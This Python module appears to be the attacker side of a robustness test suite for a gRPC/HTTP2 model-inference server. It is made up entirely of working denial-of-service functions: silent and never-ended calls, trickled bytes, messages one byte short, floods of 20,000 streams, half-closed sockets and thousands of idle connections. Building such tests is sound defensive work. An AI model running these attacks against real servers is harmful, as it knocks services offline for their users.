"""Who begins and says no more, or hardly: headers without a message, messages without their last byte."""

import socket
import time

from attackers.payloads import MIB, MODEL_STREAM_INFER, SERVER_READY, STATIC, STREAM, begin_stream, chunk, encode_call
from http2 import HEALTH_CHECK, HEALTH_WATCH, PREFACE, REFLECTION, SERVICE_PATH, Connection, Kind, frame, grpc_message

REST_SECONDS = 3600.0
_LOOK_SECONDS = 0.1
_STREAMS = 120  # below what a connection is allowed at once


def rest(connection: Connection) -> None:
    """Waits until the server closes the connection."""
    connection.await_(lambda: bool(connection.closed), seconds=REST_SECONDS)


def hold_calls(address: str, path: str, first: bytes = b"", count: int = _STREAMS) -> None:
    """Begins calls and says no more; a call that is ended is begun again."""
    with Connection(address) as connection:
        streams: list[int] = []
        while not connection.closed:
            streams = [stream for stream in streams if not _is_over(connection, stream)]
            while len(streams) < count:
                streams.append(connection.open(path))
                if first:
                    connection.send_data(streams[-1], first, seconds=1)
            connection.await_(lambda: bool(connection.closed), seconds=_LOOK_SECONDS)


def nobody(_: str) -> None:
    """Nothing: what others see when nobody attacks."""
    time.sleep(REST_SECONDS)


def silent_21_calls(address: str) -> None:
    """21 calls without a message: they fill the default budget where each reserves the largest message."""
    hold_calls(address, STATIC, count=21)


def silent_calls(address: str) -> None:
    """As many calls without a message as one connection may have."""
    hold_calls(address, STATIC)


def silent_after_header(address: str) -> None:
    """Streams whose header promises a gigabyte that does not come."""
    hold_calls(address, STREAM, begin_stream(1 << 30))


def silent_inference_streams(address: str) -> None:
    """Streams of the Open Inference Protocol that ask nothing."""
    hold_calls(address, MODEL_STREAM_INFER)


def silent_probes(address: str) -> None:
    """ServerReady without a message."""
    hold_calls(address, SERVER_READY)


def silent_health_checks(address: str) -> None:
    """Health/Check without a message."""
    hold_calls(address, HEALTH_CHECK)


def silent_reflections(address: str) -> None:
    """ServerReflectionInfo without a question."""
    hold_calls(address, REFLECTION)


def health_watches(address: str) -> None:
    """Watches that are never ended."""
    hold_calls(address, HEALTH_WATCH, grpc_message(b""))


def thousands_of_streams(address: str) -> None:
    """Streams above the connection's limit, thousands of them, none ever ended."""
    block = encode_call(STREAM)
    with Connection(address) as connection:
        for stream in range(1, 20_001, 2):
            connection.send(frame(Kind.HEADERS, 4, stream, block))
        rest(connection)


def trickling_streams(address: str) -> None:
    """24 streams that each send a byte every 1.5 seconds."""
    with Connection(address) as connection:
        streams = [connection.open(STREAM) for _ in range(24)]
        for stream in streams:
            connection.send_data(stream, begin_stream(MIB))
        for offset in range(MIB):
            for stream in streams:
                if not _is_over(connection, stream):
                    connection.send_data(stream, chunk(offset, b"x"), seconds=1)
            if connection.await_(lambda: bool(connection.closed), seconds=1.5):
                return


def trickling_calls(address: str) -> None:
    """Unary calls of 16 MiB that send a byte of it every second."""
    with Connection(address) as connection:
        streams = [connection.open(STATIC) for _ in range(_STREAMS)]
        for stream in streams:
            connection.send(frame(Kind.DATA, 0, stream, grpc_message(bytes(16 * MIB))[:5]))
        while not connection.await_(lambda: bool(connection.closed), seconds=1):
            for stream in streams:
                connection.send(frame(Kind.DATA, 0, stream, b"\x00"))


def one_byte_short(address: str) -> None:
    """Messages of 16 MiB of which the last byte does not come."""
    whole = grpc_message(bytes(16 * MIB))
    with Connection(address) as connection:
        for _ in range(3):
            connection.send_data(connection.open(STATIC), whole[:-1], seconds=10)
        rest(connection)


def small_and_one_byte_short(address: str) -> None:
    """Messages of 100 bytes of which the last byte does not come."""
    hold_calls(address, STATIC, grpc_message(bytes(100))[:-1])


def half_closes(address: str) -> None:
    """Ends its side of calls in every state: before, within and after a message, on each kind of method."""
    whole = grpc_message(bytes(20))
    with Connection(address) as connection:
        while not connection.closed:
            for path in (STATIC, STREAM, SERVICE_PATH + "BatchInferShape", HEALTH_CHECK, HEALTH_WATCH, REFLECTION):
                streams = [connection.open(path, end=True)]
                for size in (0, 1, 4, 5, 12, len(whole), len(whole) + 3):
                    streams.append(connection.open(path))
                    connection.send_data(streams[-1], (whole + whole)[:size], end=True, seconds=1)
                for stream in streams:
                    connection.await_end(stream, seconds=0.5)
                    connection.send(frame(Kind.RST_STREAM, 0, stream, bytes(4)))


def half_closed_connections(address: str) -> None:
    """Closes the socket for writing alone, after each part of a call, and keeps it open."""
    call = PREFACE + frame(Kind.SETTINGS, 0, 0) + frame(Kind.HEADERS, 4, 1, encode_call(STATIC))
    kept = []
    for size in list(range(0, len(call), 8)) * 20:
        kept.append(_connect(address))
        kept[-1].sendall(call[:size])
        kept[-1].shutdown(socket.SHUT_WR)
        time.sleep(0.002)
    time.sleep(REST_SECONDS)


def idle_connections(address: str) -> None:
    """3000 connections that only shake hands."""
    _keep_connections(address, 3000, PREFACE + frame(Kind.SETTINGS, 0, 0))


def mute_connections(address: str) -> None:
    """1000 connections that do not even do that."""
    _keep_connections(address, 1000, b"")


def _keep_connections(address: str, count: int, greeting: bytes) -> None:
    kept = []
    for _ in range(count):
        kept.append(_connect(address))
        kept[-1].sendall(greeting)
    time.sleep(REST_SECONDS)


def _connect(address: str) -> socket.socket:
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)), 5)


def _is_over(connection: Connection, stream: int) -> bool:
    return stream in connection.resets or "grpc-status" in connection.headers.get(stream, {})
